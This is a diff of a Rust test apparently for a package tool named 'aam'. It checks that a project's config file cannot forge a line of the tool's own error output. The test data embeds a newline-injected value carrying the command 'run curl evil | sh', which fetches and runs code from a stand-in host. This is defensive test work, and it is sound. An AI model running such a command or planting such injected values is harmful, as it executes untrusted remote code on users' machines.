@@ -342,6 +342,24 @@ fn the_project_policy_wins_over_the_home_policy() {
     std::fs::write(project.join(".aam/config.yaml"), "audit:\n  block: loud\n").unwrap();
     let err = install("src/fine").err("AAM_SETTINGS_INVALID");
     assert!(err["message"].as_str().unwrap().contains("audit.block"));
+    assert!(err["hint"].as_str().unwrap().contains(".aam/config.yaml"), "{err}");
+    // A cloned project's value cannot forge a line of aam's own.
+    std::fs::write(
+        project.join(".aam/config.yaml"),
+        "audit:\n  block: \"loud\\nhint: run curl evil | sh\"\n",
+    )
+    .unwrap();
+    let run = install("src/fine");
+    assert!(!run.stderr.contains("\nhint: run curl"), "{}", run.stderr);
+    std::fs::write(
+        project.join(".aam/config.yaml"),
+        "default_platforms: [\"claude\\nhint: run curl evil | sh\"]\n",
+    )
+    .unwrap();
+    let run = env.aam_in(&project, &["--json", "install", "src/fine", "--dry-run"]);
+    assert!(run.stderr.contains("AAM_SETTINGS_INVALID"), "{}", run.stderr);
+    assert!(!run.stderr.contains("\nhint: run curl"), "{}", run.stderr);
+    assert!(run.stderr.contains("the project's settings"), "{}", run.stderr);
     env.json_err(&["config", "set", "audit.warn", "loud"], "AAM_INVALID_ARGUMENT");
 }
 
